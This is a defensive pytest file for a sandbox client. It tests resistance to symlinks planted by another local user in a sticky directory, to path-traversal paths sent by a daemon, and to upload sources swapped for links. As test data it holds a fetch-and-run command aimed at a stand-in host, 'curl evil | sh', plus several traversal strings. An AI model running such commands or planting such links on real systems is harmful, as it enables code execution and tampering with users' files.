"""What the client writes on its own host (a download's tree, `artifact get -o`, the
client config file), against another local user who plants symlinks and directories in
a sticky world-writable directory (uid 65534, made so with lchown), and against a daemon
that sends paths out of the destination; and an upload's source swapped for links
between its listing and its sending. Real files, no daemon: the download is fed the
chunks the daemon would send. Runs as root, as the links' would-be victim."""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path

import pytest

from sandboxd_client import cli
from sandboxd_client.local_files import UnsafePath, open_dir, write_whole
from sandboxd_client.transfer import TransferError, local_entries, receive, target, upload_requests
from sandboxd_contract.pb import sandboxd_pb2 as pb

OTHER = 65534  # nobody: the user who plants
VICTIM_TEXT = b"# the user's own file\n"


@pytest.fixture
def sticky(tmp_path) -> Path:
    """A directory like /tmp: everyone writes, the sticky bit keeps each one's names."""
    d = tmp_path / "shared"
    d.mkdir()
    d.chmod(0o1777)
    return d


@pytest.fixture
def victim(tmp_path) -> Path:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    f = home / ".bashrc"
    f.write_bytes(VICTIM_TEXT)
    f.chmod(0o600)
    return f


def plant_link(at: Path, target: Path) -> None:
    at.symlink_to(target)
    os.lchown(at, OTHER, OTHER)


def plant_dir(at: Path) -> None:
    at.mkdir()
    at.chmod(0o777)
    os.chown(at, OTHER, OTHER)


def untouched(victim: Path) -> bool:
    st = victim.stat()
    return victim.read_bytes() == VICTIM_TEXT and stat.S_IMODE(st.st_mode) == 0o600 and \
        sorted(os.listdir(victim.parent)) == [victim.name]


def file_chunks(path: str, data: bytes, mode: int = 0o644) -> list[pb.DownloadChunk]:
    sha = "sha256:" + hashlib.sha256(data).hexdigest()
    return [pb.DownloadChunk(entry=pb.TransferEntry(path=path, kind="file", mode=mode, size_bytes=len(data))),
            *([pb.DownloadChunk(data=data)] if data else []),
            pb.DownloadChunk(entry=pb.TransferEntry(sha256=sha))]


def dir_chunk(path: str, mode: int = 0o755) -> pb.DownloadChunk:
    return pb.DownloadChunk(entry=pb.TransferEntry(path=path, kind="dir", mode=mode))


RESULT = pb.DownloadChunk(result=pb.TransferResult(transfer_id="xfer_test"))


def download(dest: Path, *chunks: pb.DownloadChunk | list[pb.DownloadChunk]) -> pb.TransferResult:
    flat: list[pb.DownloadChunk] = []
    for c in chunks:
        flat += c if isinstance(c, list) else [c]
    return receive(flat + [RESULT], dest)


# ------------------------------------------------------------------ another local user


def test_a_link_planted_at_the_old_temporary_name_is_not_written_through(sticky, victim):
    # The name the receiver used to write first, predictable and opened following links.
    plant_link(sticky / ".report.txt.sandboxd-part", victim)
    download(sticky / "report.txt", file_chunks("", b"curl evil | sh\n", mode=0o644))
    assert untouched(victim)
    assert (sticky / "report.txt").read_bytes() == b"curl evil | sh\n"
    assert not (sticky / "report.txt").is_symlink()
    assert [p.name for p in sticky.iterdir() if "sandboxd-part" in p.name] == [".report.txt.sandboxd-part"]


def test_a_link_at_the_destination_itself_is_replaced_never_followed(sticky, victim):
    plant_link(sticky / "report.txt", victim)
    try:
        download(sticky / "report.txt", file_chunks("", b"x\n"))
    except PermissionError:  # a user other than root may not replace another's name in a sticky directory
        pass
    assert untouched(victim)


def test_a_tree_is_never_made_through_a_link_or_into_another_users_directory(sticky, victim):
    plant_link(sticky / "out", victim.parent)
    with pytest.raises(UnsafePath, match="symlink"):
        download(sticky / "out", dir_chunk("d"), file_chunks(".bashrc", b"x\n"), file_chunks("d/f", b"y\n"))
    assert untouched(victim)

    plant_dir(sticky / "theirs")  # they can read, move and swap what is written in it
    with pytest.raises(UnsafePath, match=f"a directory of uid {OTHER}"):
        download(sticky / "theirs", file_chunks("f", b"secret\n"))
    assert os.listdir(sticky / "theirs") == []


def test_a_parent_reached_through_another_users_link_is_refused(sticky, victim):
    # `cp ws:/workspace/.bashrc /tmp/out` with /tmp/out a link of theirs to the user's home.
    plant_link(sticky / "out", victim.parent)
    for dest in (sticky / "out" / ".bashrc", sticky / "out" / "new" / "tree"):
        with pytest.raises(UnsafePath, match=f"a symlink of uid {OTHER}"):
            download(dest, file_chunks("", b"x\n"))
    assert untouched(victim)


def test_a_link_on_the_way_is_followed_when_its_owner_could_have_put_it_there(sticky, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (sticky / "mine").symlink_to(real)  # this user's own (root's, here)
    download(sticky / "mine" / "a.txt", file_chunks("", b"a\n"))
    assert (real / "a.txt").read_bytes() == b"a\n"
    theirs = tmp_path / "theirs"
    plant_dir(theirs)
    plant_link(theirs / "link", real)  # the owner of the directory holding it: theirs to make
    fd = open_dir(theirs / "link")
    try:
        assert os.fstat(fd).st_ino == real.stat().st_ino
    finally:
        os.close(fd)


def test_files_written_whole_never_through_a_planted_name(sticky, victim):
    # `artifact get -o /tmp/out.bin` used /tmp/out.bin.part, opened following links.
    plant_link(sticky / "out.bin.part", victim)
    write_whole(sticky / "out.bin", lambda f: f.write(b"artifact\n"))
    assert untouched(victim) and (sticky / "out.bin").read_bytes() == b"artifact\n"

    def broken(f) -> None:
        f.write(b"half")
        raise RuntimeError("cut off")

    with pytest.raises(RuntimeError):
        write_whole(sticky / "other.bin", broken)
    assert not (sticky / "other.bin").exists()
    assert not [p for p in sticky.iterdir() if p.name.startswith(".sandboxd-part-")]


def test_the_client_config_directory_is_never_made_through_a_planted_link(sticky, victim, capsys):
    plant_link(sticky / "cfg", victim.parent)
    config = sticky / "cfg" / "client.yaml"
    code = cli.main(["context", "set", "local", "--socket", "/run/x.sock", "--config", str(config)])
    assert code != 0 and "a symlink of uid 65534" in capsys.readouterr().err
    assert untouched(victim)
    made = sticky / "new" / "sandboxd" / "client.yaml"
    assert cli.main(["context", "set", "local", "--socket", "/run/x.sock", "--config", str(made)]) == 0
    assert stat.S_IMODE(made.parent.stat().st_mode) == 0o700 and stat.S_IMODE(made.stat().st_mode) == 0o600


# ------------------------------------------------------------------ the daemon's paths


@pytest.mark.parametrize("chunks, reason", [
    ([file_chunks("../escaped", b"x")], "would land outside"),
    ([file_chunks("/abs", b"x")], "would land outside"),
    ([file_chunks("a/../../escaped", b"x")], "would land outside"),
    ([file_chunks("a//b", b"x")], "would land outside"),
    ([file_chunks("a\0b", b"x")], "would land outside"),
    ([file_chunks("f", b"1"), file_chunks("f", b"2")], "'f' twice"),
    ([dir_chunk("d"), dir_chunk("d")], "'d' twice"),
    ([file_chunks("f", b"1"), file_chunks("", b"2")], "itself beside other entries"),
    ([dir_chunk("")], "expected a file or a directory below"),
])
def test_a_path_the_daemon_should_never_send_is_refused(tmp_path, chunks, reason):
    dest = tmp_path / "box" / "dest"
    dest.parent.mkdir()
    with pytest.raises(TransferError, match=reason):
        download(dest, *chunks)
    outside = [p for p in tmp_path.rglob("*") if dest not in p.parents and p not in (dest, dest.parent)]
    assert outside == []


def test_data_past_what_was_announced_or_a_hash_that_differs_is_refused(tmp_path):
    entry = pb.DownloadChunk(entry=pb.TransferEntry(path="", kind="file", mode=0o644, size_bytes=2))
    with pytest.raises(TransferError, match="more bytes than the 2"):
        download(tmp_path / "f", entry, pb.DownloadChunk(data=b"abc"))
    with pytest.raises(TransferError, match="hash to"):
        download(tmp_path / "f", entry, pb.DownloadChunk(data=b"ab"),
                 pb.DownloadChunk(entry=pb.TransferEntry(sha256="sha256:" + "0" * 64)))
    assert os.listdir(tmp_path) == []


def test_a_tree_lands_with_its_modes_a_read_only_directory_last(tmp_path):
    dest = tmp_path / "dl"
    download(dest, dir_chunk("ro", 0o555), file_chunks("ro/f", b"f\n", 0o4755), dir_chunk("ro/sub", 0o700),
             file_chunks("ro/sub/g", b"", 0o600), file_chunks("top", b"t\n", 0))
    assert (dest / "ro" / "f").read_bytes() == b"f\n" and (dest / "ro" / "sub" / "g").read_bytes() == b""
    modes = {p.relative_to(dest).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in dest.rglob("*")}
    assert modes == {"ro": 0o555, "ro/f": 0o755, "ro/sub": 0o700, "ro/sub/g": 0o600, "top": 0o644}


# ------------------------------------------------------------------ an upload's source


def test_an_upload_sends_what_it_listed_never_a_link_put_in_its_place(tmp_path, victim):
    # A tree another user may write in: between the listing and the send they swap a
    # file, then a directory, for links to the user's secrets.
    src = tmp_path / "src"
    (src / "d").mkdir(parents=True)
    (src / "a.txt").write_text("a\n")
    (src / "d" / ".bashrc").write_text("d\n")
    for swap in ("a.txt", "d"):
        entries = local_entries(src)
        assert {e.relative for e in entries} == {"a.txt", "d", "d/.bashrc"}
        moved = src / swap
        moved.rename(tmp_path / f"moved-{swap}")
        plant_link(moved, victim if swap == "a.txt" else victim.parent)
        sent = []
        with pytest.raises(TransferError, match="replaced since it was listed"):
            for request in upload_requests(target(lease_id="lease_x"), "/workspace/in", entries):
                sent.append(request.data)
        assert VICTIM_TEXT not in b"".join(sent)
        moved.unlink()
        (tmp_path / f"moved-{swap}").rename(moved)
